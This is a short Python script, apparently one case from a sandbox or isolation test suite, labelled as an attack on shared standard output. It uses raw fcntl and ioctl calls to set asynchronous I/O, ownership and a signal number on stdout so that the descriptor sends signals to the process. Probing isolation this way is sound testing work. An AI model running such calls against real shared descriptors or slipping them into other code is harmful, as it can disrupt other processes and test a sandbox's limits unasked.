# SPDX-License-Identifier: Apache-2.0
# attack: O_ASYNC, FIOASYNC, F_SETOWN and F_SETSIG make the shared stdout send signals
# class: stdio
# wins: stdio
from kit import *

tried()
for fd in (1, os.dup(1)):
    sc('fcntl', fd, 4, 0o20000)
    sc('ioctl', fd, 0x5452, ctypes.byref(ctypes.c_int(1)))
    sc('ioctl', fd, 0x8901, ctypes.byref(ctypes.c_int(os.getpid())))
    sc('fcntl', fd, 8, os.getpid())
    sc('fcntl', fd, 15, struct.pack('<ii', 1, os.getpid()))
    sc('fcntl', fd, 10, 10)
